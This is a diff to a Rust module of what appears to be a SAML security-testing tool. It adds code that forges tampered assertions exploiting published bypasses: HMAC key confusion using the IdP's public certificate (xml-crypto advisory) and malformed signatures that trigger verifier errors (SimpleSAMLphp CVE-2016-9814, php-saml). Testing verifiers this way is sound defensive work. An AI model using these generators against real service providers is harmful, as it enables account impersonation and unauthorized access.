@@ -7,8 +7,12 @@
 //! comment node or a second `ds:SignedInfo`.
 
 use super::stages::StageContext;
+use super::{HmacAlg, HmacKeyEncoding, SignatureErrorKind};
 use crate::saml::mint::MintError;
+use crate::saml::ns;
+use crate::saml::response::{signature_template, write_assertion};
 use crate::saml::xml::{escape_attr, escape_text};
+use crate::saml::xmlsec::XmlSecError;
 
 /// The empty comment the comment faults insert.
 const COMMENT: &str = "<!---->";
@@ -84,7 +88,7 @@ pub(crate) fn two_signed_info(
 /// The signed assertion with its NameID changed to another identity's, and the model's first
 /// assertion with the same change signed by the attacker key: the digest (and a SignedInfo)
 /// that match the tampered content.
-fn tamper_with_matching_signature(
+pub(super) fn tamper_with_matching_signature(
     assertion: &str,
     cx: &StageContext<'_>,
 ) -> Result<(String, String), MintError> {
@@ -98,7 +102,7 @@ fn tamper_with_matching_signature(
 }
 
 /// The first `open..close` element of `xml`, tags included.
-fn element<'x>(xml: &'x str, open: &str, close: &str) -> Option<&'x str> {
+pub(super) fn element<'x>(xml: &'x str, open: &str, close: &str) -> Option<&'x str> {
     let s = xml.find(open)?;
     let e = xml[s..].find(close)? + s + close.len();
     Some(&xml[s..e])
@@ -163,4 +167,125 @@ fn replace_name_id(xml: &str, new_value: &str) -> String {
         escape_text(new_value),
         &xml[ts + close..]
     )
+}
+
+// ---- issue 13: published SAML bypass advisories (docs/advisories.md S5, S6) ----
+
+/// The first assertion of the model with its NameID changed to the default victim's.
+fn tampered_model(
+    cx: &StageContext<'_>,
+) -> Result<crate::saml::assertion::AssertionModel, MintError> {
+    let v = cx.victim(&None)?;
+    let mut model = cx.model.assertions[0].clone();
+    if let Some(n) = model.subject.as_mut().and_then(|s| s.name_id.as_mut()) {
+        n.value = v.name_id();
+    }
+    Ok(model)
+}
+
+/// `hmac-key-confusion` (xml-crypto GHSA-c27r-x354-4m68): the NameID is tampered and the
+/// assertion "signed" with an HMAC SignatureMethod whose key is the IdP's *public* signing
+/// certificate in the byte form `encoding`: everything needed is in the IdP metadata. The
+/// digests are genuine SHA-256 digests of the tampered assertion; KeyInfo carries the IdP
+/// certificate unless `without_key_info`.
+pub(crate) fn hmac_key_confusion(
+    assertion: &mut String,
+    cx: &StageContext<'_>,
+    alg: HmacAlg,
+    encoding: HmacKeyEncoding,
+    without_key_info: bool,
+) -> Result<(), MintError> {
+    let model = tampered_model(cx)?;
+    let idp = &cx.input.keys.idp;
+    let uri = match alg {
+        HmacAlg::HmacSha1 => "http://www.w3.org/2000/09/xmldsig#hmac-sha1",
+        HmacAlg::HmacSha256 => "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256",
+    };
+    let id = model.id.clone().unwrap_or_default();
+    let cert = (!without_key_info).then_some(idp.cert_b64.as_str());
+    let tpl = signature_template(&id, cert, false).replacen(ns::ALG_RSA_SHA256, uri, 1);
+    let key = hmac_key(&idp.cert_b64, encoding)?;
+    *assertion = cx
+        .signer
+        .sign_enveloped_hmac(write_assertion(&model, Some(&tpl)), &key)?;
+    Ok(())
+}
+
+/// The IdP certificate (base64 DER, as in the metadata) in the byte form `encoding`.
+fn hmac_key(cert_b64: &str, encoding: HmacKeyEncoding) -> Result<Vec<u8>, MintError> {
+    use base64::Engine;
+    let der = base64::engine::general_purpose::STANDARD
+        .decode(cert_b64)
+        .map_err(|e| XmlSecError::Library(format!("IdP certificate is not base64: {e}")))?;
+    let pem_lf = |tag: &str, der: Vec<u8>| {
+        pem::encode_config(
+            &pem::Pem::new(tag, der),
+            pem::EncodeConfig::new().set_line_ending(pem::LineEnding::LF),
+        )
+        .into_bytes()
+    };
+    Ok(match encoding {
+        HmacKeyEncoding::CertPem => pem_lf("CERTIFICATE", der),
+        HmacKeyEncoding::CertBase64 => cert_b64.as_bytes().to_vec(),
+        HmacKeyEncoding::CertDer => der,
+        HmacKeyEncoding::SpkiPem => {
+            let (_, cert) = x509_parser::parse_x509_certificate(&der)
+                .map_err(|e| XmlSecError::Library(format!("IdP certificate: {e}")))?;
+            pem_lf("PUBLIC KEY", cert.public_key().raw.to_vec())
+        }
+    })
+}
+
+/// `signature-error` (SimpleSAMLphp CVE-2016-9814, php-saml GHSA-9wrw-p9rm-r782): the NameID
+/// is tampered, the digest matches the tampered assertion, KeyInfo names the IdP certificate,
+/// and the signature is broken so that verifying it is an *error* (no value, not base64, an
+/// algorithm that does not fit the IdP's RSA key, an unknown algorithm) rather than a
+/// mismatch. A verifier that reads "not 0" as success (`if (openssl_verify(...))`, where -1
+/// means error) accepts it.
+pub(crate) fn signature_error(
+    assertion: &mut String,
+    cx: &StageContext<'_>,
+    kind: SignatureErrorKind,
+) -> Result<(), MintError> {
+    let model = tampered_model(cx)?;
+    let id = model.id.clone().unwrap_or_default();
+    let tpl = signature_template(&id, Some(&cx.input.keys.idp.cert_b64), false);
+    // Signed by the attacker key: the digest is right, the value is not the IdP's anyway.
+    let signed = cx.signer.sign_enveloped(
+        write_assertion(&model, Some(&tpl)),
+        &cx.input.keys.attacker.signer,
+        false,
+    )?;
+    let value = element_text(&signed, "<ds:SignatureValue>", "</ds:SignatureValue>")
+        .unwrap_or_default()
+        .to_string();
+    let with_value = |v: &str| {
+        signed.replacen(
+            &format!("<ds:SignatureValue>{value}</ds:SignatureValue>"),
+            &format!("<ds:SignatureValue>{v}</ds:SignatureValue>"),
+            1,
+        )
+    };
+    let with_method = |m: &str| signed.replacen(ns::ALG_RSA_SHA256, m, 1);
+    *assertion = match kind {
+        SignatureErrorKind::ShortValue => with_value("AA=="),
+        SignatureErrorKind::EmptyValue => with_value(""),
+        SignatureErrorKind::BadBase64 => with_value("!!!"),
+        SignatureErrorKind::EcdsaMethodRsaKey => {
+            with_method("http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256")
+        }
+        SignatureErrorKind::DsaMethod => with_method("http://www.w3.org/2000/09/xmldsig#dsa-sha1"),
+        SignatureErrorKind::UnknownMethod => with_method("urn:mock:unknown-signature-method"),
+        SignatureErrorKind::NoResolvableReference => {
+            let sig = element(&signed, "<ds:Signature", "</ds:Signature>")
+                .unwrap_or_default()
+                .replacen(
+                    &format!(r##"URI="#{id}""##),
+                    &format!(r##"URI="#{id}-nowhere""##),
+                    1,
+                );
+            write_assertion(&model, Some(&format!("{sig}{sig}")))
+        }
+    };
+    Ok(())
 }
